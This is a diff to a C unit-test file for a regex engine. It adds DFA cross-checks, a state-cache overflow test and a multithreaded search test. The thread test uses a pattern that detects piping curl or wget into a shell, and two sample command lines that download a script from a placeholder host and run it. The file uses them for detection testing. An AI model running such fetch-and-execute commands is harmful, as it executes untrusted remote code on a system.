@@ -6,6 +6,7 @@
  * and hostile patterns and subjects (refused by the caps, or run with memory capped).
  */
 #include <errno.h>
+#include <pthread.h>
 #include <regex.h>
 #include <setjmp.h>
 #include <stdarg.h>
@@ -18,6 +19,7 @@
 #include <cmocka.h>
 
 #include "common/alloc.h"
+#include "common/regex-int.h" /* rx_dfa_search: the DFA alone, against the VM */
 #include "common/regex.h"
 
 static struct es_regex *compile_ok(const char *pattern, unsigned flags)
@@ -327,6 +329,11 @@ static void cross_check_flags(const char *pattern, const char *subject, unsigned
 	re = compile_ok(pattern, flags);
 	theirs = regexec(&gre, subject, 1, m, 0) == 0;
 	ours = es_regex_search(re, subject, strlen(subject), g, 1);
+	/* the DFA alone, and the match-only search (DFA from RX_DFA_MIN_LEN bytes on) agree */
+	if (rx_dfa_search(re, (const unsigned char *)subject, strlen(subject)) != ours ||
+	    es_regex_search(re, subject, strlen(subject), NULL, 0) != ours)
+		fail_msg("/%s/%s on '%s': the DFA disagrees with the VM (%d)", pattern,
+			 flags ? "i" : "", subject, ours);
 	if (ours != theirs ||
 	    (ours && ((size_t)m[0].rm_so != g[0].start || (size_t)m[0].rm_eo != g[0].end)))
 		fail_msg("/%s/%s on '%s': glibc %d [%d,%d], ours %d [%zu,%zu]", pattern,
@@ -461,8 +468,9 @@ static void test_glibc_random(void **state)
 
 	(void)state;
 	for (int it = 0; it < 4000; it++) {
-		char pattern[512], subject[16];
-		size_t n = 0, len = rng(14);
+		char pattern[512], subject[320];
+		/* one in four long enough for the DFA and the VM's first pass */
+		size_t n = 0, len = it % 4 ? rng(14) : rng(300);
 
 		if (rng(4) == 0)
 			pattern[n++] = '^';
@@ -478,6 +486,78 @@ static void test_glibc_random(void **state)
 		compared++;
 	}
 	assert_int_equal(compared, 4000);
+}
+
+/*
+ * The DFA's state cache fills up on a pattern whose DFA is exponential ("an a, then 12 more
+ * bytes"); the search then falls back to the VM, the cache starts afresh, and every answer
+ * stays the VM's.
+ */
+static void test_dfa_cache_full(void **state)
+{
+	struct es_regex *re = compile_ok("(a|b)*a(a|b){12}c", 0);
+	struct es_regex_match g[2];
+	size_t len = 20000;
+	char *s = malloc(len + 1);
+
+	(void)state;
+	assert_non_null(s);
+	for (size_t i = 0; i < len; i++)
+		s[i] = "ab"[rng(2)];
+	s[len] = '\0';
+	assert_int_equal(rx_dfa_search(re, (const unsigned char *)s, len), -E2BIG);
+	assert_int_equal(es_regex_search(re, s, len, NULL, 0), 0);
+	memcpy(s + len - 14, "aabababababab", 13);
+	s[len - 1] = 'c';
+	assert_int_equal(es_regex_search(re, s, len, NULL, 0), 1);
+	assert_int_equal(es_regex_search(re, s, len, g, 2), 1);
+	assert_int_equal(g[0].start, 0);
+	assert_int_equal(g[0].end, len);
+	/* short subjects after a reset still match through the cache */
+	assert_int_equal(es_regex_search(re, "xxaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac", 36, NULL, 0),
+			 1);
+	assert_int_equal(es_regex_search(re, "xxbaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", 36, NULL, 0),
+			 0);
+	es_regex_free(re);
+	free(s);
+}
+
+struct thread_arg {
+	const struct es_regex *re;
+	const char *subject;
+	size_t len;
+	int expect, mismatches;
+};
+
+static void *search_thread(void *p)
+{
+	struct thread_arg *a = p;
+
+	for (int i = 0; i < 2000; i++)
+		if (es_regex_search(a->re, a->subject, a->len, NULL, 0) != a->expect)
+			a->mismatches++;
+	return NULL;
+}
+
+/* One compiled regex searched from two threads at once: each search has the shared DFA
+ * cache or a private one, and every answer is right (also run under ASan). */
+static void test_threads(void **state)
+{
+	struct es_regex *re = compile_ok("(curl|wget)[^|]*\\|[[:space:]]*(ba)?sh", 0);
+	static const char yes[] = "/bin/sh -c curl -s http://h/x.sh -o - | bash -s -- --opt",
+			  no[] = "/bin/sh -c curl -s http://h/x.sh -o /tmp/x.sh ; sh /tmp/x.sh";
+	struct thread_arg a = { re, yes, sizeof(yes) - 1, 1, 0 },
+			  b = { re, no, sizeof(no) - 1, 0, 0 };
+	pthread_t ta, tb;
+
+	(void)state;
+	assert_int_equal(pthread_create(&ta, NULL, search_thread, &a), 0);
+	assert_int_equal(pthread_create(&tb, NULL, search_thread, &b), 0);
+	pthread_join(ta, NULL);
+	pthread_join(tb, NULL);
+	assert_int_equal(a.mismatches, 0);
+	assert_int_equal(b.mismatches, 0);
+	es_regex_free(re);
 }
 
 /* ---- hostile patterns and subjects ---- */
@@ -621,6 +701,8 @@ int main(void)
 		cmocka_unit_test(test_errors),
 		cmocka_unit_test(test_glibc_table),
 		cmocka_unit_test(test_glibc_random),
+		cmocka_unit_test(test_dfa_cache_full),
+		cmocka_unit_test(test_threads),
 		cmocka_unit_test(test_pathological_patterns),
 		cmocka_unit_test(test_pathological_subjects),
 		cmocka_unit_test(test_long_command_line),
